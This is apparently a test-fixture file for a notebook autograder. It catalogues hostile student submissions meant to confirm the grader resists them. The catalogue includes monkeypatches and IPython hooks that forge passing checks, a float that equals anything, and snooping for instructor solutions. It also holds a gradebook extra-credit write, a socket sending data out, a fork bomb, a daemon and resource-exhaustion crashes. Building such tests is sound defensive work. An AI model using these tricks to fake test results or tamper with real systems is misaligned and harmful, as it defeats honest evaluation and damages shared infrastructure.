"""Hostile and malformed submissions for the sample class (see autograder/sample_class.py).

Each entry is code a student might hand in to cheat, to break the grader, or by accident.
`cell` code runs as an extra cell right after the setup cell; `answer` code is the body of
the student's function for the first question (called with the case's arguments). Every
entry must leave honest answers in the same notebook scoring, and earn no undeserved point.
"""

MONKEYPATCH = '''
# Make every comparison pass and every check a no-op (works inside stock nbgrader's kernel).
import contextlib, math
import numpy as np
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
math.isclose = lambda *a, **k: True
import autograder.checks, autograder.compare
autograder.compare.close = lambda *a, **k: None
class _Pass:
    def __init__(self, *a, **k): pass
    def __enter__(self): return self
    def __exit__(self, *a): return True
    def public(self): print("✓ all public cases")
    def random(self, n=None): print("✓ 8 random cases")
    def hidden(self, n=None): print("✓ 8 hidden cases")
autograder.checks.checking = _Pass
checking = _Pass
'''

IPYTHON_HOOKS = '''
# Rewrite every later test cell into `pass`, and forge a passing output.
ip = get_ipython()
ip.input_transformers_cleanup.append(
    lambda lines: ["print('✓ all cases')\\n"] if any("checking(" in l for l in lines) else lines)
'''

SNOOP_CELL = '''
# Look for the instructor's files, the gradebook and other students' work.
import glob, os
found = [p for pattern in ("../../../source/*/*.ipynb", "../../../gradebook.db",
                           "../../../submitted/*/*/*.ipynb", "/work/*/source/*/*.ipynb")
         for p in glob.glob(pattern)]
print(len(found), "course files visible")
'''

SNOOP_ANSWER = '''
    # Find the instructor's solution of this question and run it.
    import glob, json
    name = {q!r}
    for path in glob.glob("../../../source/*/*.ipynb") + glob.glob("/work/*/source/*/*.ipynb"):
        for cell in json.load(open(path))["cells"]:
            text = "".join(cell["source"])
            if "BEGIN SOLUTION" in text and f"def {{name}}(" in text:
                ns = {{}}
                exec("import numpy as np\\nimport tensorflow as tf\\n" + text, ns)
                return ns[name](*args, **kwargs)
    raise RuntimeError("no solution found")
'''

GRADEBOOK_WRITE = '''
# Give everyone extra credit straight in the gradebook.
import glob, sqlite3
for db in glob.glob("../../../gradebook.db") + glob.glob("/work/*/gradebook.db"):
    try:
        con = sqlite3.connect(db)
        con.execute("UPDATE grade SET extra_credit = 100")
        con.commit()
    except Exception as e:
        print("could not write the gradebook:", type(e).__name__)
'''

DAEMON = '''
# A daemon that should not outlive grading.
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
        os._exit(0)
    os._exit(0)
'''

NETWORK = '''
# Send the notebook somewhere.
import socket
for host, port in (("127.0.0.1", 8765), ("pypi.org", 443)):
    try:
        socket.create_connection((host, port), timeout=2).sendall(b"exfiltrated")
        print("sent to", host)
    except OSError as e:
        print("no network:", type(e).__name__)
'''

EXIT = '''
# End the process in the middle of the notebook.
import os
os._exit(3)
'''

LIAR_ANSWER = '''
    # A number that says it equals anything.
    class Liar(float):
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        __hash__ = float.__hash__
        def __float__(self): return 6.0
    return Liar(0.0)
'''

MEMORY_ANSWER = '''
    # Ask for far more memory than the machine has.
    hog = bytearray(64 << 30)
    return hog
'''

SEGFAULT_ANSWER = '''
    # Crash the process.
    import ctypes
    return ctypes.string_at(0)
'''

FORK_BOMB_ANSWER = '''
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
'''

SIGINT_LOOP_ANSWER = '''
    import signal
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass
'''

# name: (what it does, extra cell or None, first answer's body or None, every unit?)
HOSTILE = {
    "hostile-monkeypatch": ("patches NumPy, math and the checks; every answer wrong", MONKEYPATCH, None, True),
    "hostile-ipython-hooks": ("rewrites later test cells; every answer wrong", IPYTHON_HOOKS, None, True),
    "hostile-liar": ("first answer returns a float that equals anything", None, LIAR_ANSWER, True),
    "hostile-snoop": ("first answer runs the instructor's solution if it can read it", SNOOP_CELL, SNOOP_ANSWER, True),
    "hostile-gradebook": ("writes extra credit into the gradebook", GRADEBOOK_WRITE, None, True),
    "hostile-daemon": ("leaves a daemon running", DAEMON, None, True),
    "hostile-network": ("sends data over the network", NETWORK, None, True),
    "hostile-memory": ("first answer allocates 64 GiB", None, MEMORY_ANSWER, True),
    "hostile-segfault": ("first answer segfaults", None, SEGFAULT_ANSWER, True),
    "hostile-exit": ("calls os._exit in a cell after the first answer", EXIT, None, True),
    "hostile-fork-bomb": ("first answer is a fork bomb", None, FORK_BOMB_ANSWER, False),
    "hostile-sigint-loop": ("first answer loops forever, ignoring SIGINT", None, SIGINT_LOOP_ANSWER, False),
}
# Students whose every answer is the first pitfall (their tricks must not rescue them).
ALL_WRONG = {"hostile-monkeypatch", "hostile-ipython-hooks"}
# Where the extra cell goes: after the setup cell, or after the first answer.
AFTER_FIRST_ANSWER = {"hostile-exit"}
